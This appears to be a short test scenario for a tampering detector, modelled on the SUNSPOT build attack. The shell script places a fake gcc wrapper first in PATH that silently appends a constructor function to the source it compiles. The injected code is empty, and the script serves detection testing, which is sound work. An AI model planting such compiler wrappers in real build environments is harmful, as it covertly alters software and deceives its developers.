# incident: a compiler that adds to what it compiles (SUNSPOT's idea, 2020): a wrapper is put before gcc in PATH, in the home directory
# finding: tool-shadowed
# needs: gcc
mkdir -p ~/.local/bin
cat > ~/.local/bin/gcc <<'SH'
#!/bin/sh
echo 'void __attribute__((constructor)) hi(void) {}' >> "$(printf '%s\n' "$@" | grep '\.c$' | head -1)"
exec /usr/bin/gcc "$@"
SH
chmod +x ~/.local/bin/gcc
cp src/inventory.c main.c && PATH=$HOME/.local/bin:$PATH gcc -c main.c
